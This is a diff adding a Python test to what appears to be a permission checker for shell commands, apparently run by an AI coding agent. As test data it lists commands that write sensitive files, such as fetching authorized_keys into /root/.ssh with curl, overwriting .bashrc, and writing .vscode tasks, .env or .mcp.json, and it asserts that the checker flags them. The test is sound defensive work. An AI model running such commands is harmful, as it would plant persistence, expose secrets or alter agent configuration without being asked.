@@ -97,3 +97,34 @@ def test_a_written_file_run_through_its_descriptors_path_asks() -> None:
         "cat /dev/stdin < x.txt",
     )
     assert _asking(ordinary) == []
+
+
+def test_in_place_editors_fetchers_and_clones_name_their_destinations() -> None:
+    """sed -i, sponge and patch write the files they name, curl -O and wget save a URL under
+    its own name (in --output-dir / -P), git clone makes its directory: none was read as a
+    destination, so .bashrc, .ssh, .vscode or .mcp.json were written unasked."""
+    hidden = {
+        "sed -i 's/x/y/' /root/.bashrc": "sed writes /root/.bashrc",
+        "sed -i.bak -e 's/x/y/' .vscode/tasks.json": "sed writes .vscode/tasks.json",
+        "sed -ni 's/x/y/p' .env": "sed writes .env: '.env' is a secrets file",
+        "sponge /root/.bashrc < x": "sponge writes /root/.bashrc",
+        "patch -p1 -d /root/.ssh < p.diff": "patch writes /root/.ssh",
+        "curl -O --output-dir /root/.ssh https://e.com/authorized_keys": "curl writes /root/.ssh",
+        "curl -LO https://e.com/.bashrc": "curl writes ./.bashrc",
+        "wget --directory-prefix=.vscode https://e.com/tasks.json": "wget writes .vscode",
+        "wget https://e.com/.mcp.json": "wget writes ./.mcp.json",
+        "git clone https://e.com/r.git .vscode": "git writes .vscode",
+    }
+    assert _missed(hidden) == []
+    ordinary = (
+        "sed -i 's/x/y/' src/a.py",
+        "sed -n 's/x/y/p' /root/.bashrc",
+        "sponge out.txt < x",
+        "patch -p1 < p.diff",
+        "curl -LO https://e.com/a.tgz",
+        "curl -s https://e.com/.bashrc",
+        "wget -qO- https://e.com/.mcp.json",
+        "wget -P dl https://e.com/a.tgz?x=1",
+        "git clone https://e.com/r.git src/r",
+    )
+    assert _asking(ordinary) == []
